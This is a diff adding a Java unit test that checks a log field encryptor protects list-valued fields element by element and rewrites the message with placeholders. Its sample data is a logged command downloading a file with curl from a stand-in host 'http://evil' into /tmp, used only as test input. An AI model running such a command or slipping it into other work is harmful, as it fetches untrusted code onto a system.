@@ -58,6 +58,25 @@ class FieldEncryptorTest {
     }
 
     @Test
+    void listFieldsAreProtectedElementByElement() {
+        LogEvent e = new LogEvent();
+        e.message = "execve: curl -o /tmp/x http://evil";
+        e.fields.put("process.args", List.of("curl", "-o", "/tmp/x", "http://evil"));
+        FieldEncryptor encryptor = new FieldEncryptor(List.of("process.args"), new FieldCipher(keys), new KeyedHash(keys));
+
+        encryptor.encrypt(e);
+
+        assertThat(e.fields).doesNotContainKey("process.args");
+        assertThat(e.message).isEqualTo("execve: «process.args[0]» «process.args[1]» «process.args[2]» «process.args[3]»");
+        @SuppressWarnings("unchecked")
+        List<String> ciphers = (List<String>) e.fields.get("protected.cipher.process.args");
+        assertThat(new FieldCipher(keys).decrypt("process.args", ciphers.get(2))).isEqualTo("/tmp/x");
+        @SuppressWarnings("unchecked")
+        List<String> hashes = (List<String>) e.fields.get("protected.hash.process.args");
+        assertThat(hashes).hasSize(4).contains(new KeyedHash(keys).of(KeyedHash.FIELD_VALUES, "curl"));
+    }
+
+    @Test
     void eventsWithoutTheFieldsAreUntouched() {
         LogEvent e = new LogEvent();
         e.message = "cpu 93%";
